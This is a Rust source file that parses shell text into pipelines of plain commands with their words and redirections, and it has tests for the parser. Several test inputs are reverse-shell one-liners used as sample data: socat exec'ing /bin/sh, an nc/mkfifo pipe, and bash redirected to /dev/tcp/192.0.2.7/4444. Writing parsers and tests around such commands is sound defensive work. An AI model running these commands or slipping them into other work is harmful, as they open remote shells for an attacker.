//! Shell text as plain commands: which programs it runs, with which words, and how their descriptors are joined. Conditions,
//! loops and functions are looked through, as if each command in them ran once.

use event::Text;

use super::syntax::{Direction, List, Node, Redirect, parse};

/// Where a descriptor is led.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Led {
    /// A file is read.
    From(Text),
    /// A file is written.
    To(Text),
    /// A file is read and written.
    Both(Text),
    /// Where another descriptor leads; closed where that is none (`-`).
    As(Option<u32>),
    /// Text that stands in the commands themselves.
    Here,
}

/// A redirection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirection {
    /// Which descriptor.
    pub descriptor: u32,
    /// Where to.
    pub led: Led,
}

/// A command as it stands in the text. What is expanded only when it runs is left as `$name`, or left out.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct PlainCommand {
    /// The program and its arguments.
    pub words: Vec<Text>,
    /// In the order of the text.
    pub redirections: Vec<Redirection>,
}

/// A stage of a pipeline: the commands that share its ends.
pub type Stage = Vec<PlainCommand>;

/// The pipelines of a text, each with its stages. At most so many commands are read.
pub fn pipelines(text: &[u8], most: usize) -> Vec<Vec<Stage>> {
    let mut left = most;
    let mut found = Vec::new();
    walk(&parse(text).list, &[], &mut left, &mut found);
    found
}

fn walk(list: &List, outer: &[Redirection], left: &mut usize, found: &mut Vec<Vec<Stage>>) {
    for pipeline in list {
        match pipeline.as_slice() {
            // the pipelines of a group that stands alone are pipelines like others
            [Node::Group { list, redirects }] => {
                let redirections: Vec<_> =
                    redirects.iter().flat_map(plain).chain(outer.iter().cloned()).collect();
                walk(list, &redirections, left, found);
            }
            [Node::Function { body, .. }] => walk(&vec![vec![(**body).clone()]], outer, left, found),
            stages => {
                let stages = stages.iter().map(|node| {
                    let mut stage = Stage::new();
                    flatten(node, outer, left, &mut stage);
                    stage
                });
                let stages: Vec<Stage> = stages.collect();
                if stages.iter().any(|stage| !stage.is_empty()) {
                    found.push(stages);
                }
            }
        }
    }
}

fn flatten(node: &Node, outer: &[Redirection], left: &mut usize, stage: &mut Stage) {
    match node {
        Node::Simple { words, redirects, .. } if !words.is_empty() && *left > 0 => {
            *left -= 1;
            let words = words.iter().map(|word| Text::new(word.shown(|_| None))).collect();
            let redirections = outer.iter().cloned().chain(redirects.iter().flat_map(plain)).collect();
            stage.push(PlainCommand { words, redirections });
        }
        Node::Group { list, redirects } => {
            let redirections: Vec<_> =
                outer.iter().cloned().chain(redirects.iter().flat_map(plain)).collect();
            for node in list.iter().flatten() {
                flatten(node, &redirections, left, stage);
            }
        }
        Node::Simple { .. } | Node::Function { .. } | Node::Test { .. } => {}
    }
}

fn plain(redirect: &Redirect) -> Vec<Redirection> {
    let Redirect { descriptor, direction, target, .. } = redirect;
    let text = target.shown(|_| None);
    let one = |led| vec![Redirection { descriptor: *descriptor, led }];
    match direction {
        Direction::In => one(Led::From(Text::new(text))),
        Direction::Out => one(Led::To(Text::new(text))),
        Direction::Both => one(Led::Both(Text::new(text))),
        Direction::Duplicate => {
            let number =
                std::str::from_utf8(&text).ok().and_then(|text| text.trim_end_matches('-').parse().ok());
            one(Led::As(number))
        }
        Direction::OutAndErrors => vec![
            Redirection { descriptor: 1, led: Led::To(Text::new(text)) },
            Redirection { descriptor: 2, led: Led::As(Some(1)) },
        ],
        Direction::Here => one(Led::Here),
    }
}

#[cfg(test)]
mod tests {
    use super::{Led, pipelines};
    use event::Text;

    fn words(text: &str) -> Vec<Vec<Vec<String>>> {
        let stage = |stage: &super::Stage| -> Vec<String> {
            let command =
                |c: &super::PlainCommand| c.words.iter().map(Text::lossy).collect::<Vec<_>>().join("·");
            stage.iter().map(command).collect()
        };
        pipelines(text.as_bytes(), 100).iter().map(|stages| stages.iter().map(stage).collect()).collect()
    }

    #[test]
    fn words_are_split_as_a_shell_splits_them() {
        assert_eq!(
            words(r#"socat TCP:h:1 'EXEC:"/bin/sh -i",pty' ; a "b c"\ d $x"#),
            [vec![vec!["socat·TCP:h:1·EXEC:\"/bin/sh -i\",pty"]], vec![vec!["a·b c d·$x"]]]
        );
        assert_eq!(
            words("mkfifo f; cat f | sh -i 2>&1 | nc h 1 >f"),
            [vec![vec!["mkfifo·f"]], vec![vec!["cat·f"], vec!["sh·-i"], vec!["nc·h·1"]]]
        );
        assert_eq!(words("if true; then (a; b); fi"), [vec![vec!["true"]], vec![vec!["a"]], vec![vec!["b"]]]);
        assert_eq!(words("a | { b; c; }"), [vec![vec!["a"], vec!["b", "c"]]]);
    }

    #[test]
    fn redirections_are_read_in_their_order() {
        let read = pipelines(b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 3<f <<<x", 9);
        let led: Vec<_> = read[0][0][0].redirections.iter().map(|r| (r.descriptor, r.led.clone())).collect();
        let path = "/dev/tcp/192.0.2.7/4444".into();
        let wanted = [
            (1, Led::To(path)),
            (2, Led::As(Some(1))),
            (0, Led::As(Some(1))),
            (3, Led::From("f".into())),
            (0, Led::Here),
        ];
        assert_eq!(led, wanted);
    }

    #[test]
    fn hostile_text_is_bounded() {
        assert_eq!(pipelines("a;".repeat(100_000).as_bytes(), 10).len(), 10);
        for text in
            ["(".repeat(100_000), "{ ".repeat(50_000), "a|".repeat(10_000), "'".into(), "\u{0}".into()]
        {
            let _ = pipelines(text.as_bytes(), 10);
        }
    }
}
